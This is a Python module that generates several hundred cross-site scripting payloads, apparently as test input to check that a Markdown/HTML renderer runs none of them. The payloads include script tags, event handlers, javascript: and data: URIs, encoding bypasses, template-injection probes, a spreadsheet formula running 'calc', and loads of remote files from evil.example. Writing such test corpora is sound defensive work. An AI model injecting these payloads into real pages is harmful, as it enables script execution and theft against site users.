"""Five hundred texts that want to be a script: vectors and the contexts they break out of, and what Markdown adds.

Each calls ``xss()``. A page that shows them runs none, and has none of the elements and attributes they consist of.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence
from itertools import product

VECTORS = (
    "<script>xss()</script>",
    "<ScRiPt src=data:,xss()></sCrIpT>",
    "<script/x>xss()</script//>",
    "<svg><script>xss()</script></svg>",
    "<img src=x onerror=xss()>",
    "<IMG SRC=x ONERROR=xss() ",
    "<img src=`x`onerror=xss()>",
    "<svg onload=xss()>",
    "<svg/onload=xss()//",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:xss()><text>x</a>",
    "<svg><use href=data:image/svg+xml,<svg/onload=xss()>>",
    "<body onload=xss()>",
    "<details open ontoggle=xss()>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()>",
    "<textarea autofocus onfocus=xss()>",
    "<video><source onerror=xss()></video>",
    "<audio src=x onerror=xss()>",
    "<iframe src=javascript:parent.xss()>",
    "<iframe srcdoc='<script>parent.xss()</script>'>",
    "<object data=javascript:xss()>",
    "<embed src=javascript:xss()>",
    "<a href=javascript:xss() autofocus>x</a>",
    "<form action=javascript:xss()><button>x</button></form>",
    "<button formaction=javascript:xss() form=f>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{animation-name:x}</style><b onanimationstart=xss()>",
    "<marquee onstart=xss()>x</marquee>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    "<template><img src=x onerror=xss()></template>",
    "<b hx-on:load=xss() hx-trigger=load hx-get=/>",
    "<b data-hx-on--load=xss() hx-vals='js:{a:xss()}' hx-get=/ hx-trigger=load>",
    "<dialog open onclose=xss()><form method=dialog>",
)
CONTEXTS = ("{}", '">{}', "'>{}", "</textarea>{}", "</title></style>{}", "--></script>{}", "</option></select>{}")
"""What a text stands in: between tags, in an attribute, in an element that holds no tags, in a list to choose from."""
BREAKS = (
    '" onfocus=xss() autofocus x="',
    "' onfocus=xss() autofocus x='",
    "` onfocus=xss() autofocus x=`",
    '" onmouseover="xss()',
    '" style="animation-name:x" onanimationstart="xss()',
    '" hx-on:load="xss()" x="',
    "\"}' hx-on:load=xss() x='{\"",
    "x onload=xss()",
    "javascript:xss()",
    "java\u0000script:xss()",
    "data:text/html,<script>xss()</script>",
    "');xss();//",
    '");xss();//',
    "\\');xss();//",
    '\\");xss();//',
    "</script><script>xss()//",
    "${xss()}",
    "`;xss();`",
    "{{ xss() }}",
    "{% include 'x' %}",
    "{{ ''.__class__.__mro__ }}",
    "&lt;img src=x onerror=xss()&gt;",
    "&amp;lt;img src=x onerror=xss()&amp;gt;",
    "&#60;img src=x onerror=xss()&#62;",
    "&#x3c;script&#x3e;xss()&#x3c;/script&#x3e;",
    "\\u003cimg src=x onerror=xss()\\u003e",
    "%3Cimg src=x onerror=xss()%3E",
    "\uff1cimg src=x onerror=xss()\uff1e",
    "<<script>xss()//<</script>",
    "<!--<img src='--><img src=x onerror=xss()>'>",
    "<![CDATA[<img src=x onerror=xss()>]]>",
    "<?xml version='1.0'?><svg onload=xss()>",
    "=cmd|'/c calc'!A1",
    "<mark>x</mark><em onclick=xss()>x</em>",
    "//evil.example/x.js",
)
ADDRESSES = (
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    " javascript:xss()",
    "java&#x73;cript:xss()",
    "&#106;avascript:xss()",
    "javascript&colon;xss()",
    "java&Tab;script:xss()",
    "&#1;javascript:xss()",
    "javascript://evil.example/%0axss()",
    "javascript:%78ss()",
    "vbscript:xss()",
    "data:text/html,<script>xss()</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=xss()>",
    "blob:null/xss()",
    "view-source:javascript:xss()",
    "feed:javascript:xss()",
    'https://evil.example/"onmouseover="xss()',
    "https://evil.example/'onfocus='xss()",
    "https://evil.example/`onload=`xss()",
    "x:y\"onmouseover=xss()'",
)
MARKDOWN = (
    "{}",
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "![x]({})",
    "![x](<{}>)",
    "[![x]({})]({})",
    "[x]({} \"t' onmouseover=xss() '\")",
    "> * [x]({})",
    "| a | b |\n|---|---|\n| [x]({}) | ![x]({}) |",
)
REFERENCES = tuple(f"[x{number}]\n\n[x{number}]: {address}" for number, address in enumerate(ADDRESSES))


def _all() -> Iterator[str]:
    for context, vector in product(CONTEXTS, VECTORS):
        yield context.format(vector)
    yield from BREAKS
    for form, address in product(MARKDOWN, ADDRESSES):
        yield form.replace("{}", address)
    yield from REFERENCES


PAYLOADS: Sequence[str] = tuple(dict.fromkeys(each.replace("\u0000", "") for each in _all()))


def as_text() -> str:
    """All of them, as one long text in Markdown."""
    return "\n\n".join(PAYLOADS)


def as_lines(length: int, without: str = "") -> list[str]:
    """All of them in lines of so many characters at most, as many to a line as there is room for.

    Args:
        length: of a line.
        without: characters that the field refuses, as a regular expression; they are left out.
    """
    lines: list[str] = []
    for payload in PAYLOADS:
        each = " ".join(re.sub(without, "", payload).split() if without else payload.split())[:length]
        if lines and len(lines[-1]) + len(each) + 1 <= length:
            lines[-1] += f" {each}"
        else:
            lines.append(each)
    return lines
